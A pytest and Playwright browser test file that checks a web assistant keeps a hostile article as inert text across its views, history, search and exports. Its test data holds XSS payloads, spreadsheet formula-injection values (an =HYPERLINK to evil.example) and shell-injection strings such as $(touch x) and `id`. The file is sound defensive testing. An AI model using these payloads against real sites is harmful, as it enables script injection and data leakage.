"""An article that wants to do harm, through every view of the page, on a desktop and on a phone.

`open_page` fails a test if a dialog appears, a script fails or a request leaves for another host.
"""

from __future__ import annotations

import ast
import csv
import json
import re
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Download, Locator, Page, expect

from assistant.assistant import Assistant
from assistant.types import Article
from tests.hostile import NAUGHTY
from tests.ui.conftest import Open, Serve, ask, gradio_warnings, show_tab, upload
from tests.ui.looks import overflow

pytestmark = [pytest.mark.browser, gradio_warnings]

LONG = 200_000  # characters of one word
MARKUP = (
    "<script>alert(1)</script><img src=https://evil.example/x.png onerror=alert(2)>"
    "<svg onload=alert(3)></svg><iframe src=https://evil.example></iframe>"
    "![pixel](https://evil.example/p.png)[click](javascript:alert(4))${alert(5)}{{alert(6)}}"
    "<style>*{background:url(https://evil.example/c)}</style><base href=//evil.example>"
    "</mark></p><form action=https://evil.example><input autofocus onfocus=alert(7)></form>"
    "<meta http-equiv=refresh content='0;url=https://evil.example'><b onmouseover=alert(8)>"
)
FACT = f"The comet Zorblax returns in 2061 {MARKUP} says Mallory."
OVERRIDDEN = "\u202eThe comet Zorblax was named by \u2066Eve\u2069 of Quba."
TEXT = "\n".join([FACT, OVERRIDDEN, "w" * LONG, *NAUGHTY, "ע" * LONG])
HOSTILE = Article(
    TEXT,
    title=f"{MARKUP} {'t' * LONG} Zorblax",
    author=f"{MARKUP}{'a' * LONG}",
    source=f"{MARKUP}{'s' * LONG}",
    url=f"https://evil.example/{'u' * 5000}",
)
FORMULA = Article(
    f"=1+1 says the comet Zorblax. {MARKUP}",
    title='=HYPERLINK("https://evil.example/?"&A1;"Zorblax")',
    author="@SUM(A1)",
    source="+1",
    url="https://evil.example/formula",
)
QUOTES = """' " ''' \\ $(touch x) `id`"""
# What none of ours may hold: what loads, runs, sends or leads away. The reader's link is the one exception.
OURS = (
    ":is(#welcome, #transcript, #next, #strip, #panel, #report, #history-list, #search-bar, #hits, #export)"
)
ALIVE = "img, script, iframe, style, form, svg, base, meta, b, a:not(.doings a)"


@pytest.mark.parametrize("size", [(1280, 800), (375, 812)], ids=["desktop", "phone"])
def test_is_text_in_every_view_and_the_layout_holds(
    assistant: Assistant, serve: Serve, open_page: Open, size: tuple[int, int]
) -> None:
    assert assistant.add(HOSTILE).failed == ()
    page = open_page(serve(assistant), viewport={"width": size[0], "height": size[1]})
    seen = {view: (alive(page), overflow(page)) for view in views(page)}

    assert seen == {view: ([], 0) for view in seen}
    assert len(seen) == 8


@pytest.mark.parametrize("size", [(1280, 800), (375, 812)], ids=["desktop", "phone"])
def test_is_text_in_history_and_in_all_that_leaves_it(
    assistant: Assistant, serve: Serve, open_page: Open, size: tuple[int, int]
) -> None:
    assistant.add([HOSTILE, FORMULA])
    address = serve(assistant)
    page = open_page(address, viewport={"width": size[0], "height": size[1]})
    question = f"When does the comet Zorblax return? {MARKUP} \u202e {'q' * 400}"
    ask(page, question)
    expect(page).to_have_url(re.compile("#conversation/"))
    show_tab(page, "History")
    item = page.locator(".conversations li")
    expect(item.locator(".title")).to_contain_text("When does the comet Zorblax return? <script>alert(1)")
    assert (alive(page), overflow(page)) == ([], 0)

    item.get_by_role("button", name="Rename").click()
    item.get_by_role("textbox", name="Title").fill(f"<img src=x onerror=alert(9)>{'T' * 100}")
    page.keyboard.press("Enter")
    expect(item.locator(".title")).to_contain_text("<img src=x onerror=alert(9)>")
    assert (alive(page), overflow(page)) == ([], 0)

    markdown = text_of(page, item.get_by_role("link", name="Download as Markdown"))
    assert "Zorblax" in markdown
    assert re.findall(r"(?<!\\)<\w|(?<!\\)!?\[(?!\d+\])", markdown) == []  # no tag, no picture, no link
    kept = json.loads(text_of(page, item.get_by_role("link", name="Download as JSON")))
    assert kept["turns"][0]["answer"]["question"] == question.replace("\u202e", "")

    page.goto(address + (item.get_by_role("link", name="Print").get_attribute("href") or "")[1:])
    expect(page.locator("h1")).to_contain_text("<img src=x onerror=alert(9)>")
    expect(page.locator("h2")).to_contain_text(MARKUP)
    found = page.locator(f"body :is({ALIVE})").evaluate_all("all => all.map(e => e.outerHTML.slice(0, 80))")
    assert ([one for one in found if not one.startswith('<a href="https://')], overflow(page)) == ([], 0)


@pytest.mark.parametrize("size", [(1280, 800), (375, 812)], ids=["desktop", "phone"])
def test_is_text_in_search_and_in_all_that_leaves_it(
    assistant: Assistant, serve: Serve, open_page: Open, size: tuple[int, int]
) -> None:
    assistant.add([HOSTILE, FORMULA])
    page = open_page(serve(assistant), viewport={"width": size[0], "height": size[1]})
    show_tab(page, "Search")
    query = f"comet Zorblax {QUOTES} {MARKUP}"
    page.locator("#search-bar input[name=query]").fill(query)
    page.locator("#search-bar input[name=query]").press("Enter")
    expect(page.locator(".hits ol")).to_contain_text("Zorblax")
    assert (alive(page), overflow(page)) == ([], 0)
    page.locator(".hits .fold.code summary").click()
    assert (alive(page), overflow(page)) == ([], 0)

    python, curl = copied(page)
    strings = [node.value for node in ast.walk(ast.parse(python)) if isinstance(node, ast.Constant)]
    assert query in strings
    words = shlex.split(curl.replace("\\\n", ""))
    assert json.loads(words[words.index("-d") + 1])["query"] == query

    with page.expect_download() as caught:
        page.get_by_role("button", name="CSV").click()
    rows = list(csv.reader(saved(caught.value).splitlines()))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{FORMULA.title}" in cells
    assert [cell for cell in cells if re.match(r"\s*[=+@-]", cell) and not is_number(cell)] == []
    with page.expect_download() as caught:
        page.get_by_role("button", name="JSON").click()
    assert json.loads(saved(caught.value))["query"] == query

    page.locator(".hits button.title", has_text="HYPERLINK").first.click()
    expect(page.locator("#panel .text")).to_contain_text(MARKUP)
    assert (alive(page), overflow(page)) == ([], 0)


def alive(page: Page) -> list[str]:
    """What loads, runs, sends or leads away in what is ours."""
    found = page.locator(f"{OURS} :is({ALIVE})")
    return list(found.evaluate_all("all => all.map(e => e.outerHTML.slice(0, 80))"))


def text_of(page: Page, link: Locator) -> str:
    """The file that a link leads to."""
    with page.expect_download() as caught:
        link.click()
    return saved(caught.value)


def saved(download: Download) -> str:
    return Path(download.path()).read_text(encoding="utf-8")


def copied(page: Page) -> list[str]:
    """What each "Copy" beside code hands over."""
    return [str(button.get_attribute("data-copy")) for button in page.locator(".snippet [data-copy]").all()]


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+", cell) is not None


def views(page: Page) -> Iterator[str]:
    """Go through the views, naming each."""
    turn = ask(page, "When does the comet Zorblax return?")
    expect(turn.locator(".answer")).to_contain_text(MARKUP.partition("!")[0])
    yield "answer"
    turn.locator(".found summary").click()
    yield "found"
    turn.locator(".answer .marker").first.hover()
    expect(page.locator(".quote.is-shown")).to_contain_text("onerror=alert(2)")
    yield "card"
    page.mouse.move(0, 0)
    turn.locator(".answer .marker").first.click()
    expect(page.locator("#panel .text")).to_contain_text(MARKUP)
    link = page.locator("#panel a[rel]")
    assert (link.count(), link.get_attribute("rel")) == (1, "noopener noreferrer nofollow")
    yield "reader"
    page.locator("#panel .about").click()
    page.locator("#panel .close").click()
    expect(page.locator(".chips li")).to_have_count(1)
    yield "chip"
    page.locator(".strip summary").click()
    yield "filter"
    page.locator(".strip summary").click()
    ask(page, f"Who is {MARKUP} {'q' * 400}?")
    yield "question"
    upload(page, (f"{MARKUP.replace('/', '')[:120]}.txt", TEXT.encode()))
    expect(page.locator("#report .count").first).to_be_visible()
    show_tab(page, "Library")
    yield "library"
